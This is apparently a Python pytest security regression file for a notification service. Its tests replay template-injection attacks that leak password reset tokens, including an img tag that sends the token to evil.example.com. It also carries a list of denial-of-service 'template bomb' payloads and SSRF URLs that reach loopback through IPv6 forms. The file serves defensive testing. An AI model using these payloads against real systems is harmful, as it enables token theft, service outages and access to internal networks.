"""Attacks on notifications: reading reset tokens through templates, template bombs, relaying mail.

Each test repeats an attack an adversarial review made against a running server, then
variants of the same kind: they fail on the code before the fix and pass after it.
"""

from __future__ import annotations

import asyncio
import json
import time

import pytest

from .conftest import wait_status

TEMPLATES = "/api/v1/notifications/templates"
SECURITY_NAMES = ("password_reset", "verify_email", "password_changed", "new_login")


async def create(client, actor, **body):
    return await client.post(
        TEMPLATES, json={"channel": "email", "body": "Hi {{ user.name }}", **body}, headers=actor.headers
    )


async def send(client, actor, **body):
    return await client.post("/api/v1/notifications", json=body, headers=actor.headers)


# --- critical: security mail is never rendered by a tenant's template --------------------------


@pytest.mark.parametrize("name", SECURITY_NAMES)
async def test_an_org_admin_cannot_create_a_security_template(client, make_user, name):
    admin = await make_user(role="org_admin")
    response = await create(client, admin, name=name, body="{{ [][token] }}")
    assert response.status_code == 422
    assert "security" in (await response.get_json())["errors"][0]["msg"]
    for channel in ("in_app", "webhook"):
        assert (await create(client, admin, name=name, channel=channel)).status_code == 422


async def test_an_org_admin_cannot_rename_a_template_to_a_security_name(client, make_user):
    admin = await make_user(role="org_admin")
    template = await (await create(client, admin, name="harmless")).get_json()
    renamed = await client.put(f"{TEMPLATES}/{template['id']}", json={"name": "password_reset"}, headers=admin.headers)
    assert renamed.status_code == 422


@pytest.mark.parametrize(
    "body",
    [
        "{{ [][token] }}",  # fails on purpose: the token used to land in the notification's error
        "{{ {}[reset_url] }}",
        "{{ token.nope }}",
        "{{ ''[token] }}",
        '<img src="https://evil.example.com/?t={{ token }}">{{ reset_url }}',  # succeeds and carries it off
    ],
)
async def test_a_tenant_template_named_like_security_mail_is_never_used(client, make_user, mailbox, body):
    """Rows written before the name was reserved (here: straight into the table) stay unused."""
    from vetrai.plugins.notifications.models import Notification, NotificationTemplate

    admin = await make_user(role="org_admin")
    member = await make_user(role="user", organization=admin.organization)
    await NotificationTemplate.create(
        organization_id=admin.organization.id,
        owner_key=str(admin.organization.id),
        name="password_reset",
        channel="email",
        subject="Gotcha {{ token }}",
        body=body,
    )
    response = await client.post("/api/v1/password-reset", json={"email": member.user.email})
    assert response.status_code == 202
    [message] = await mailbox.wait_for(member.user.email)
    assert message["Subject"] == "Reset your password"
    text = message.get_body(("plain",)).get_content()
    assert "/reset-password?token=" in text and "evil.example.com" not in text
    token = text.split("token=", 1)[1].split()[0]

    [row] = await Notification.filter(user_id=member.user.id, template_name="password_reset")
    row = await wait_status(row.id)
    assert row.status == "sent" and row.error is None
    listed = await client.get(f"/api/v1/notifications?recipient_id={member.id}", headers=admin.headers)
    shown = await client.get(f"/api/v1/notifications/{row.id}", headers=admin.headers)
    for answer in (listed, shown):
        assert answer.status_code == 200
        assert token not in await answer.get_data(as_text=True)


async def test_security_templates_cannot_be_sent_by_an_admin(client, make_user):
    """The global reset template with the admin's own reset_url would be a phishing mail from us."""
    admin = await make_user(role="org_admin")
    member = await make_user(role="user", organization=admin.organization)
    listed = await (await client.get(f"{TEMPLATES}?limit=200", headers=admin.headers)).get_json()
    for item in listed["items"]:
        if item["name"] not in SECURITY_NAMES:
            continue
        response = await send(
            client,
            admin,
            channel=item["channel"],
            recipient_id=member.id,
            template_id=item["id"],
            data={"reset_url": "https://evil.example.com", "verify_url": "https://evil.example.com"},
        )
        assert response.status_code == 422, item["name"]


@pytest.mark.parametrize(
    "body",
    [
        "{{ [][secret] }}",
        "{{ {}[secret] }}",
        "{{ secret.missing }}",
        "{{ ''[secret] }}",
        "{{ secret[999] }}",
        "{{ secret / 2 }}",
        "{{ secret|int(secret) + [] }}",
        "{{ secret ~ [][0] }}",
        "{{ (secret * 2)|wordwrap(0) }}",
    ],
)
async def test_render_errors_never_contain_variable_values(client, make_user, body):
    admin = await make_user(role="org_admin")
    template = await (await create(client, admin, name="leaky", subject="S", body=body)).get_json()
    secret = "_s3cr3t-v4lue-0123456789"
    response = await send(
        client, admin, channel="email", to="someone@example.com", template_id=template["id"], data={"secret": secret}
    )
    row = await wait_status((await response.get_json())["id"])
    assert row.status == "failed" and row.error.startswith("template error: body:")
    assert secret not in row.error and "s3cr3t" not in row.error
    shown = await client.get(f"/api/v1/notifications/{row.id}", headers=admin.headers)
    assert "s3cr3t" not in (await shown.get_json())["error"]


async def test_an_undefined_name_is_still_named_in_the_error(client, make_user):
    admin = await make_user(role="org_admin")
    template = await (await create(client, admin, name="typo", body="Total: {{ totl }}")).get_json()
    response = await send(client, admin, channel="email", to="a@example.com", template_id=template["id"])
    row = await wait_status((await response.get_json())["id"])
    assert row.status == "failed" and "'totl' is undefined (line 1)" in row.error


# --- high: template bombs fail one notification, never the server -------------------------------

BOMBS = [
    "{% set s = 'x' * 12000 %}{% for a in s %}{% for b in s %}{{ b }}{% endfor %}{% endfor %}",
    "{% set s = 'x' * 12000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}silent",
    "{{ 'x'.ljust(3 * 10**8) }}",
    "{{ 'x'.center(10**9) }}",
    "{{ 'x'.zfill(10**9) }}",
    "{{ '%.3000f' % 1 }}",
    "{% set f = '%.' ~ '300000000' ~ 'f' %}{{ f % 1 }}",
    "{{ '{:>300000000}'.format(1) }}",
    "{{ '{:{}}'.format(1, 10**9) }}",
    "{{ 'x'|center(10**9) }}",
    "{{ ('a' ~ '\n' * 999)|indent('x' * 99999) }}",
    "{{ ('a' * 99999)|wordwrap(1, true, 'x' * 9999) }}",
    "{{ ('a' * 99999)|replace('a', 'b' * 99999) }}",
    "{{ ('a' * 99999).replace('a', 'b' * 99999) }}",
    "{% set s = 'x' * 999999 %}{{ [s, s, s, s, s, s, s, s]|join }}",
    "{% set s = 'x' * 999999 %}{{ s ~ s ~ s ~ s }}",
    "{% set s = 'x' * 999999 %}{{ [s] * 4 }}",
    "{% set s = 'x' * 999999 %}{{ [s, s, s, s, s] }}",
    "{{ [1]|batch(10**9, 'x')|list }}",
    "{{ (1).to_bytes(10**9, 'big') }}",
    "{{ ('\t' * 99999).expandtabs(99999) }}",
    "{{ '%s' % ('x' * 999999 * 1) * 5 }}",
    "{{ ([1] * 100000)|map('center', 999999)|list }}",
    "{{ {'a': [[[[1]]]]}|tojson(indent=10**9) }}",
    "{{ ('x' * 99999)|map('replace', 'x', 'y' * 99)|join }}",
]


@pytest.mark.parametrize("body", BOMBS)
async def test_template_bombs_fail_only_their_notification(client, make_user, body):
    admin = await make_user(role="org_admin")
    created = await create(client, admin, name="bomb", body=body)
    if created.status_code == 422:  # refused when saved: even better
        assert "format" in (await created.get_json())["detail"]
        return
    assert created.status_code == 201, await created.get_data(as_text=True)
    template = await created.get_json()
    response = await send(client, admin, channel="email", to="bomb@example.com", template_id=template["id"])
    row = await wait_status((await response.get_json())["id"], timeout=30)
    assert row.status == "failed" and row.error.startswith("template error: body:")
    assert any(word in row.error for word in ("too large", "took longer", "limited", "more than"))
    assert (await client.get("/health")).status_code == 200


async def test_health_answers_while_a_bomb_renders(client, make_user):
    from vetrai.plugins.notifications.models import Notification

    admin = await make_user(role="org_admin")
    template = await (await create(client, admin, name="slow", body=BOMBS[1])).get_json()
    response = await send(client, admin, channel="email", to="slow@example.com", template_id=template["id"])
    notification_id = (await response.get_json())["id"]
    deadline = time.monotonic() + 15
    while (await Notification.get(id=notification_id)).status != "sending":
        assert time.monotonic() < deadline, "the delivery never started"
        await asyncio.sleep(0.01)
    health = await client.get("/health")
    assert health.status_code == 200
    assert (await Notification.get(id=notification_id)).status == "sending"  # answered during the render
    row = await wait_status(notification_id, timeout=30)
    assert row.status == "failed" and "took longer" in row.error


@pytest.mark.parametrize(
    "body",
    [
        "{{ ''.join }}",
        "{{ organization.items }}",
        "{{ [1, 2]|map('string') }}",
        "{{ [1, 2]|reverse }}",
        "{{ [1, 2]|select }}",
        "{{ ''.join|string }}",
        "{{ '%s' % ''.join }}",
        "{{ ''.join ~ '' }}",
        "{{ [''.join] }}",
        "{{ dict.fromkeys }}",
    ],
)
async def test_rendered_text_never_shows_object_addresses(client, make_user, mailbox, body):
    admin = await make_user(role="org_admin")
    template = await (await create(client, admin, name="peek", body=body)).get_json()
    response = await send(client, admin, channel="email", to="peek@example.com", template_id=template["id"])
    row = await wait_status((await response.get_json())["id"])
    assert row.status == "sent", row.error
    [message] = await mailbox.wait_for("peek@example.com")
    text = message.get_body(("plain",)).get_content()
    assert " at 0x" not in text and "0x7f" not in text


# --- medium: no open mail relay -------------------------------------------------------------


async def test_a_free_organization_cannot_mail_outsiders(client, make_user, make_org, mailbox):
    organization = await make_org(limits={"max_monthly_external_messages": 0})
    admin = await make_user(role="org_admin", organization=organization)
    member = await make_user(role="user", organization=organization)
    for body in (
        {"channel": "email", "to": "victim@example.com", "subject": "Hi", "body": "spam"},
        {"channel": "email", "to": "Victim@Example.com", "recipient_id": member.id, "body": "spam"},
        {"channel": "sms", "to": "+14155550100", "body": "spam"},
    ):
        response = await send(client, admin, **body)
        assert response.status_code == 403, body
        problem = await response.get_json()
        assert problem["type"].endswith("quota-exceeded") and problem["limit"] == "max_monthly_external_messages"
    # Members are always reachable, by id or by their address.
    assert (await send(client, admin, channel="email", recipient_id=member.id, body="hello")).status_code == 202
    by_address = await send(client, admin, channel="email", to=member.user.email.capitalize(), body="hello")
    assert by_address.status_code == 202
    assert (await send(client, admin, channel="in_app", recipient_id=member.id, body="hi")).status_code == 202
    await mailbox.wait_for(member.user.email)
    await mailbox.wait_for(member.user.email.capitalize())
    assert mailbox.to("victim@example.com") == []


async def test_external_messages_count_against_the_monthly_limit(client, make_user, make_org):
    organization = await make_org(limits={"max_monthly_external_messages": 2})
    admin = await make_user(role="org_admin", organization=organization)
    for index in range(2):
        response = await send(client, admin, channel="email", to=f"lead{index}@example.com", body="offer")
        assert response.status_code == 202
    over = await send(client, admin, channel="email", to="lead9@example.com", body="offer")
    assert over.status_code == 403 and (await over.get_json())["current"] == 2


# --- low ---------------------------------------------------------------------------------------


async def test_a_member_filtering_by_recipient_gets_only_their_own(client, make_user):
    admin = await make_user(role="org_admin")
    member = await make_user(role="user", organization=admin.organization)
    other = await make_user(role="user", organization=admin.organization)
    await send(client, admin, channel="in_app", recipient_id=member.id, body="mine")
    await send(client, admin, channel="in_app", recipient_id=other.id, body="theirs")
    for recipient in (member.id, other.id, "00000000-0000-0000-0000-000000000000"):
        response = await client.get(f"/api/v1/notifications?recipient_id={recipient}", headers=member.headers)
        assert response.status_code == 200
        items = (await response.get_json())["items"]
        assert all(item["recipient_id"] == str(member.id) for item in items)
        assert bool(items) == (recipient == member.id), json.dumps(items)


# --- low: open streams end when the credential does -------------------------------------------


async def _stream_is_cut(client, headers, cut) -> None:
    """Open the stream, run ``cut`` and expect ``event: revoked`` (and the end) within seconds."""
    async with client.request("/api/v1/notifications/stream", headers=headers) as connection:
        await connection.send_complete()
        assert (await asyncio.wait_for(connection.receive(), 5)).startswith(b": connected")
        await cut()
        received = b""

        async def until_revoked() -> None:
            nonlocal received
            while b"event: revoked" not in received:
                received += await connection.receive()

        await asyncio.wait_for(until_revoked(), 15)
        await connection.disconnect()


@pytest.mark.parametrize("how", ["deactivated", "logged_out", "logged_out_opaque", "organization_deactivated"])
async def test_a_notification_stream_ends_when_its_credential_does(client, make_user, how):
    from vetrai.core.models import Organization
    from vetrai.plugins.auth.models import User

    admin = await make_user(role="org_admin")
    member = await make_user(
        role="user", organization=admin.organization, token_format="opaque" if how.endswith("opaque") else "jwt"
    )

    async def cut() -> None:
        if how == "deactivated":
            response = await client.put(f"/api/v1/users/{member.id}", json={"is_active": False}, headers=admin.headers)
            assert response.status_code == 200 or await User.filter(id=member.id).update(is_active=False)
        elif how == "organization_deactivated":
            await Organization.filter(id=admin.organization.id).update(is_active=False)
        else:
            assert (await client.post("/api/v1/logout", json={}, headers=member.headers)).status_code == 204

    await _stream_is_cut(client, member.headers, cut)


async def test_a_notification_stream_ends_when_its_api_key_is_revoked(custom_app):
    from tests.auth.conftest import create_member

    test_app = await custom_app(plugins=["auth", "keys", "notifications"])
    client = test_app.test_client()
    member = await create_member(test_app, "user")
    created = await client.post(
        "/api/v1/keys", json={"name": "stream", "scopes": ["notifications:read"]}, headers=member.headers
    )
    key = await created.get_json()

    async def cut() -> None:
        assert (await client.delete(f"/api/v1/keys/{key['id']}", headers=member.headers)).status_code == 204

    await _stream_is_cut(client, {"X-API-Key": key["key"]}, cut)
    assert (await client.get("/api/v1/notifications", headers={"X-API-Key": key["key"]})).status_code == 401


@pytest.mark.parametrize(
    "url",
    ["http://[::7f00:1]:{port}/hook", "http://[::ffff:127.0.0.1]:{port}/hook", "http://localhost:{port}/hook"],
)
async def test_webhooks_to_private_addresses_fail_in_any_form(custom_app, http_receiver, url):
    from tests.auth.conftest import create_member

    test_app = await custom_app(env={"webhook_allow_private": "false"})
    client = test_app.test_client()
    admin = await create_member(test_app, "org_admin")
    target = url.format(port=http_receiver.port)
    response = await client.post(
        "/api/v1/notifications", json={"channel": "webhook", "to": target, "body": "ping"}, headers=admin.headers
    )
    row = await wait_status((await response.get_json())["id"])
    assert row.status == "failed" and "private" in row.error
    assert http_receiver.requests == []
